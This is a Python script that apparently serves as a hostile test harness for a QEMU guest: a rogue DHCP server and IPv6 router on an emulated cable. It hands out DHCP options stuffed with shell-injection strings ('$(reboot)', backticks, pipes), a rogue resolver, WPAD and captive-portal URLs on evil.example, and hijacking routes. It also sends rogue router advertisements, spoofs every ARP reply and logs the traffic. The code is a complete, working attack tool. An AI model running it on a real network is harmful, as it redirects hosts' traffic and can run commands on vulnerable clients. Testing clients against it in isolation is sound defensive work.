#!/usr/bin/python3
"""router - a router that means harm, at the other end of an emulated cable: QEMU's datagram socket, frame by frame.

Usage: router.py OWN-SOCKET QEMU-SOCKET LOG

It leases an address and says all that a DHCP server and a router can say to lead a PC astray: routes around everything
and to the gateway's address, its own resolver, a proxy (WPAD), a captive portal (RFC 8910), boot files, names to be run
by a shell, resolvers by router advertisement (RFC 8106). It answers every ARP question as itself, and nothing else: of
what comes it writes a line to LOG. Ends when it is ended.
"""
import os
import socket
import struct
import sys

OWN, STRANGER, LEASE = "192.168.66.1", "192.168.66.66", "192.168.66.100"
MAC = bytes.fromhex("5254005e0166")
aton = socket.inet_aton
SHELL = b"$(reboot);`reboot`|reboot\n"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def option(code, data):
    return bytes([code, len(data)]) + data


OPTIONS = (option(1, aton("255.255.255.0")) + option(3, aton(OWN)) + option(51, struct.pack("!I", 600)) + option(54, aton(OWN))
           + option(6, aton(STRANGER)) + option(12, SHELL) + option(15, SHELL) + option(42, aton(STRANGER))
           + option(66, SHELL) + option(67, SHELL) + option(114, b"https://portal.evil.example/") + option(119, b"\4evil\7example\0")
           + option(121, b"\1\0" + aton(STRANGER) + b"\1\x80" + aton(STRANGER) + b"\x20" + aton("203.0.113.11") + aton(OWN)
                    + b"\0" + aton(OWN)) + option(252, b"http://wpad.evil.example/wpad.dat"))


def ethernet(to, kind, body):
    return to + MAC + struct.pack("!H", kind) + body


def lease(frame):
    asked = frame[42:]
    kind = asked[240:].find(b"\x35\1")
    if kind < 0 or asked[240 + kind + 2] not in (1, 3):
        return None
    answer = b"\2" if asked[240 + kind + 2] == 1 else b"\5"
    reply = (b"\2" + asked[1:8] + bytes(8) + aton(LEASE) + aton(OWN) + bytes(4) + asked[28:44] + bytes(192)
             + b"\x63\x82\x53\x63" + option(53, answer) + OPTIONS + b"\xff")
    udp = struct.pack("!HHHH", 67, 68, 8 + len(reply), 0) + reply
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, aton(OWN), aton("255.255.255.255"))
    return ethernet(b"\xff" * 6, 0x0800, head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp)


def advertisement():
    body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + bytes.fromhex(
        "20010db80bad0000" + "00" * 8) + struct.pack("!BBHI", 25, 3, 0, 9000) + bytes.fromhex("20010db8" + "00" * 10 + "0bad")
    source, to = socket.inet_pton(socket.AF_INET6, "fe80::1"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    message = struct.pack("!BBH", 134, 0, 0) + body
    message = message[:2] + struct.pack("!H", checksum(source + to + struct.pack("!II", len(message), 58) + message)) + message[4:]
    return ethernet(b"\x33\x33\0\0\0\1", 0x86DD, struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + source + to + message)


def answer(frame):
    kind = frame[12:14]
    if kind == b"\x08\x06" and frame[20:22] == b"\0\1":
        return ethernet(frame[6:12], 0x0806, frame[14:20] + b"\0\2" + MAC + frame[38:42] + frame[22:28] + frame[28:32])
    if kind == b"\x08\0" and frame[23] == 17 and frame[34:38] == struct.pack("!HH", 68, 67):
        return lease(frame)
    if kind == b"\x86\xdd" and frame[20] == 58 and frame[54] == 133:
        return advertisement()
    return None


def what(frame):
    if frame[12:14] == b"\x08\0":
        ports = "%d > %d" % struct.unpack("!HH", frame[34:38]) if frame[23] in (6, 17) else ""
        return f"IPv4 {frame[23]} to {socket.inet_ntoa(frame[30:34])} {ports}"
    return f"ethertype {frame[12:14].hex()}"


def main():
    own, qemu, log = sys.argv[1:]
    if os.path.exists(own):
        os.unlink(own)
    line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    line.bind(own)
    with open(log, "w", buffering=1) as out:
        while True:
            frame = line.recv(65535)
            if len(frame) < 38 or frame[6:12] == MAC:
                continue
            print(what(frame), file=out)
            reply = answer(frame)
            if reply:
                line.sendto(reply, qemu)


if __name__ == "__main__":
    main()
